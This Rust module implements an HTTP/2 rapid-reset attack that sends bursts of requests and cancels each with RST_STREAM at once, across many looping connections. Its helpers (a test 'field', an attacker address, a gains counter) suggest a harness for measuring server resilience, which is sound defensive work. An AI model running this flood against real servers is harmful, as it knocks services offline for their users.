//! Requests that are reset as soon as they are sent.

use std::time::Duration;

use bytes::Bytes;
use h2::Reason;
use h2::client::{Builder, SendRequest};
use http::Request;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::address::attacker;
use super::attack::Field;

/// Resets of one connection in a row, with a pause after them.
const IN_A_ROW: usize = 100;
const PAUSE: Duration = Duration::from_millis(100);
const SENDING: Duration = Duration::from_millis(2);
/// Between two connections.
const AGAIN: Duration = Duration::from_millis(500);

/// Resets request after request on so many connections from one address.
pub(crate) async fn reset(field: Field, connections: usize, make: fn() -> Request<()>) {
    let mut all = JoinSet::new();
    for _ in 0..connections {
        all.spawn(connection(field.clone(), make));
    }
    while all.join_next().await.is_some() {}
}

async fn connection(field: Field, make: fn() -> Request<()>) {
    let mut builder = Builder::new();
    builder.max_concurrent_reset_streams(1 << 16);
    loop {
        if let Ok((client, connection)) = field.server.http2(attacker(1), &builder).await {
            tokio::select! {
                _ = connection => {}
                _ = requests(&field, client, make) => {}
            }
        }
        field.gains.cut();
        sleep(AGAIN).await;
    }
}

async fn requests(field: &Field, mut client: SendRequest<Bytes>, make: fn() -> Request<()>) -> Result<(), h2::Error> {
    let mut asked = Vec::with_capacity(IN_A_ROW);
    loop {
        for _ in 0..IN_A_ROW {
            client = client.ready().await?;
            field.gains.tried();
            asked.push(client.send_request(make(), true)?);
        }
        // Until they are on their way: what was not sent yet would not be sent at all.
        sleep(SENDING).await;
        for (_answer, mut stream) in asked.drain(..) {
            stream.send_reset(Reason::CANCEL);
        }
        sleep(PAUSE).await;
    }
}
